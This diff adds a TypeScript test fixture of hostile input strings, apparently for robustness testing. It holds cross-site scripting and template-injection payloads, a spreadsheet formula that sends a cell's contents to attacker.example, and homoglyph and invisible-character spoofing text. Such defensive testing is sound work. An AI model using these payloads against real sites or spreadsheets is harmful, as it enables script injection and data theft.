@@ -1,0 +1,20 @@
+/** Texts that broke real products: markup, direction marks, blanks, invisible characters, sheer length. */
+export const hostileText = {
+  markup: '<img src=x onerror="window.__pwned=1">',
+  script: '</script><script>window.__pwned=1</script>',
+  attribute: '" autofocus onfocus="window.__pwned=1" x="',
+  template: '{{constructor.constructor("window.__pwned=1")()}}\u0024{window.__pwned=1}',
+  rightToLeft: '\u202Eلجنة الخرائط\u202C (\u200Fقسم ١٢\u200F)',
+  hebrew: 'ארכיון העיר\u200F 1948–1967',
+  invisible: 'Pay\u200Bpal\u2060 Arch\u00ADive\uFEFF',
+  homoglyph: 'Nоrthwind Univеrsity',
+  emoji: '🗺️👩‍🚀 Space Cartographers 🏴󠁧󠁢󠁳󠁣󠁴󠁿',
+  combining: 'Z̸̢̛̤a̶͙͝l̴̰̈́g̷̺̈́o̸͖̎ Society',
+  noSpaces: 'Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(2),
+  long: `The Combined Society for the Study, Preservation, Digitisation and Public Display of ${'Regional Maps, '.repeat(14)}and Timelines`,
+  blanks: '  Padded Historical Society  ',
+  delete: 'delete',
+  formula: '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+  percent: '100%25 of ../../..?a=b&c=d#e + f',
+  nul: 'null',
+} as const;
